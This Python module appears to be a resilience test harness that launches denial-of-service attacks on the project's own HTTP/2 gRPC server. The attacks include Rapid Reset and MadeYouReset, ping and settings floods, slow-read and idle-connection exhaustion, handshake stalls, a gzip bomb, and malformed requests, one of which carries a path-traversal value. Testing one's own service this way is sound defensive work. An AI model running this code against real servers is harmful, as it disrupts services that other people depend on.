"""The attacks: each does its worst to an address until it is cancelled, and counts what it did.

An attack connects again whenever the server sends it away.
"""

from __future__ import annotations

import asyncio
import zlib
from typing import TYPE_CHECKING, Final

from hyperframe.frame import (
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.attack.header_attacks import continuation_again, continuation_flood, hpack_bomb
from tests.attack.tally import BURST, PAUSE_S, Tally, again
from tests.attack.wire import Connection, Gone, headers, message

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    Attack = Callable[[str, Tally], Awaitable[None]]

INITIAL_WINDOW_SIZE: Final = SettingsFrame.INITIAL_WINDOW_SIZE
CONNECTIONS: Final = 10
IDLE_CONNECTIONS: Final = 3_000
BOMB_BYTES: Final = 128 << 20
WATCH: Final = "/grpc.health.v1.Health/Watch"
REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CONNECT: Final = "/podium.v1.WorkerService/Connect"
START: Final = "/conductor.grpc.workflows.WorkflowService/StartWorkflow"
BIGGEST_FILE: Final = b"\x22\x24conductor.grpc.tasks.TaskService"
"""A reflection request (field 4: the file that has this symbol); its answer is some KB."""


async def rapid_reset(address: str, tally: Tally) -> None:
    """CVE-2023-44487: streams that are reset as soon as they begin."""

    async def act(connection: Connection) -> None:
        while True:
            for _ in range(BURST):
                connection.reset(connection.headers(connection.block(headers(path=WATCH))))
            tally.acts += BURST
            await connection.flush()

    await again(address, tally, act)


async def made_you_reset(address: str, tally: Tally) -> None:
    """CVE-2025-8671: streams in which the peer makes the server send the reset."""

    async def act(connection: Connection) -> None:
        while True:
            for number in range(BURST):
                block = connection.block(headers(path=WATCH))
                stream_id = connection.headers(block, end_stream=True)
                if number % 4 == 0:
                    connection.send(stream_id, b"after the end")
                elif number % 4 == 1:
                    connection.write(window(stream_id, 0))
                elif number % 4 == 2:
                    connection.write(window(stream_id, (1 << 31) - 1) * 2)
                else:
                    itself = PriorityFrame(stream_id, depends_on=stream_id)
                    connection.write(itself.serialize())
            tally.acts += BURST
            await connection.flush()

    await again(address, tally, act)


def window(stream_id: int, increment: int) -> bytes:
    """A WINDOW_UPDATE of any increment; the library would refuse 0."""
    frame = bytearray(WindowUpdateFrame(stream_id, window_increment=1).serialize())
    frame[-4:] = increment.to_bytes(4, "big")
    return bytes(frame)


async def ping_flood(address: str, tally: Tally) -> None:
    """Pings as fast as they go."""

    async def act(connection: Connection) -> None:
        pings = PingFrame(0, opaque_data=b"podium!!").serialize() * BURST
        while True:
            connection.write(pings)
            tally.acts += BURST
            await connection.flush()

    await again(address, tally, act)


async def settings_flood(address: str, tally: Tally) -> None:
    """Settings as fast as they go, each to be acknowledged; nothing is read."""

    async def act(connection: Connection) -> None:
        while True:
            for number in range(BURST):
                changed = SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65_535 + number})
                connection.write(changed.serialize())
            tally.acts += BURST
            await connection.flush()

    await again(address, tally, act)


async def slow_read(address: str, tally: Tally) -> None:
    """Answers that are asked for and never taken: the window is 0."""

    async def act(connection: Connection) -> None:
        while True:
            for _ in range(BURST):
                stream_id = connection.headers(connection.block(headers(path=REFLECTION)))
                connection.send(stream_id, message(BIGGEST_FILE), end_stream=True)
                tally.acts += 1
            await connection.flush()
            await asyncio.sleep(PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(again(address, tally, act, settings={INITIAL_WINDOW_SIZE: 0}))


async def never_half_closed(address: str, tally: Tally) -> None:
    """Calls whose request never comes, as many as are let in."""

    async def act(connection: Connection) -> None:
        while True:
            for path in (START, CONNECT) * (BURST // 2):
                connection.headers(connection.block(headers(path=path)))
                tally.acts += 1
            await connection.flush()
            await asyncio.sleep(PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(again(address, tally, act))


async def tiny_data(address: str, tally: Tally) -> None:
    """A message of a megabyte, byte by byte, each in a frame of its own."""

    async def act(connection: Connection) -> None:
        while True:
            stream_id = connection.headers(connection.block(headers(path=START)))
            connection.send(stream_id, message(b"", length=1 << 20))
            for _ in range(BURST):
                for _ in range(BURST):
                    connection.send(stream_id, b"\x00")
                tally.acts += BURST
                await connection.flush()

    await again(address, tally, act)


async def oversized(address: str, tally: Tally) -> None:
    """Messages that say they are 4 GiB, and such that are 17 MiB indeed."""
    large = message(b"\x00" * (17 << 20))

    async def act(connection: Connection) -> None:
        while True:
            stream_id = connection.headers(connection.block(headers(path=START)))
            connection.send(stream_id, message(b"\x00" * 1_000, length=(1 << 32) - 1))
            stream_id = connection.headers(connection.block(headers(path=START)))
            connection.send(stream_id, large[: 1 << 20])
            tally.acts += 2
            await connection.flush()
            await asyncio.sleep(PAUSE_S)

    await again(address, tally, act)


def bomb() -> bytes:
    """Eight times the limit in zeros, as 128 KiB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    packed = b"".join(packer.compress(chunk) for _ in range(BOMB_BYTES >> 20))
    return packed + packer.flush()


async def gzip_bomb(address: str, tally: Tally) -> None:
    """Messages that grow a thousandfold when they are unpacked."""
    packed = message(await asyncio.to_thread(bomb), compressed=True)

    async def act(connection: Connection) -> None:
        while True:
            block = connection.block(headers(path=START, grpc_encoding="gzip"))
            stream_id = connection.headers(block)
            connection.send(stream_id, packed, end_stream=True)
            tally.acts += 1
            await connection.flush()
            await asyncio.sleep(PAUSE_S)

    await again(address, tally, act)


NO_REQUESTS: Final = {
    "no te": [pair for pair in headers() if pair[0] != "te"],
    "no path": [pair for pair in headers() if pair[0] != ":path"],
    "no method": [pair for pair in headers() if pair[0] != ":method"],
    "no scheme": [pair for pair in headers() if pair[0] != ":scheme"],
    "no authority": [pair for pair in headers() if pair[0] != ":authority"],
    "get": [(name, "GET" if name == ":method" else value) for name, value in headers()],
    "html": [(name, "text/html" if name == "content-type" else value) for name, value in headers()],
    "empty path": headers(path=""),
    "no slash": headers(path="health"),
    "unknown path": headers(path="/no.such.Service/Method"),
    "long path": headers(path="/" + "a" * 10_000),
    "path with dots": headers(path="/../../etc/passwd"),
    "path of bytes": [
        (name, b"/\xff\xfe" if name == ":path" else value) for name, value in headers()
    ],
    "bad utf-8": [*headers(), (b"podium-idempotency-key", b"\xff\xfe\xfa")],
    "bad name": [*headers(), (b"\xff\xfe", b"x")],
    "upper-case name": [*headers(), (b"Podium", b"x")],
    "bad base64": [*headers(), (b"x-bin", b"!!!!")],
    "control characters": [*headers(), (b"x", b"a\x00b\r\nc: d")],
    "late pseudo-header": [*headers(), (":path", "/late")],
    "two paths": [*headers()[:3], *headers()[2:]],
    "bad timeout": headers(grpc_timeout="-1S"),
    "huge timeout": headers(grpc_timeout="99999999999H"),
    "unknown encoding": headers(grpc_encoding="zip"),
    "connection header": [*headers(), ("connection", "close")],
    "content length": headers(content_length="7"),
}
"""Requests that break a rule of HTTP/2 or of gRPC; the server may refuse them in any way."""


async def no_requests(address: str, tally: Tally) -> None:
    """Bad UTF-8 in metadata, a missing te, wrong paths, and other requests that are none."""

    async def act(connection: Connection) -> None:
        while True:
            for request in NO_REQUESTS.values():
                stream_id = connection.headers(connection.block(request))
                connection.send(stream_id, message(b""), end_stream=True)
                tally.acts += 1
            await connection.flush()
            await asyncio.sleep(0)

    await again(address, tally, act)


async def idle_connections(address: str, tally: Tally) -> None:
    """Connections that say nothing: as many as there may be."""
    idle = set[asyncio.Task[None]]()
    while True:
        while len(idle) < IDLE_CONNECTIONS:
            task = asyncio.ensure_future(say_nothing(address, tally))
            idle.add(task)
            task.add_done_callback(idle.discard)
            if len(idle) % BURST == 0:
                await asyncio.sleep(PAUSE_S)
        await asyncio.sleep(PAUSE_S)


async def say_nothing(address: str, tally: Tally) -> None:
    """Until the server closes."""
    try:
        connection = await Connection.bare(address)
    except (OSError, TimeoutError):
        return
    tally.acts += 1
    tally.connections += 1
    await connection.ended.wait()
    tally.sent_away += 1
    connection.close()


async def handshake_stall(address: str, tally: Tally) -> None:
    """Half a TLS ClientHello, or half a preface, and then silence."""
    halves = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"PRI * HTTP/2.0\r\n")

    async def stall(half: bytes) -> None:
        while True:
            try:
                connection = await Connection.bare(address)
                connection.write(half)
            except (OSError, TimeoutError, Gone):
                await asyncio.sleep(PAUSE_S)
                continue
            tally.acts += 1
            tally.connections += 1
            await connection.ended.wait()
            tally.sent_away += 1
            connection.close()

    async with asyncio.TaskGroup() as group:
        for number in range(CONNECTIONS * 20):
            group.create_task(stall(halves[number % len(halves)]))


ATTACKS: Final[dict[str, Attack]] = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "hpack-bomb": hpack_bomb,
    "continuation-flood": continuation_flood,
    "continuation-again": continuation_again,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "slow-read": slow_read,
    "never-half-closed": never_half_closed,
    "tiny-data": tiny_data,
    "oversized": oversized,
    "gzip-bomb": gzip_bomb,
    "no-requests": no_requests,
    "idle-connections": idle_connections,
    "handshake-stall": handshake_stall,
}
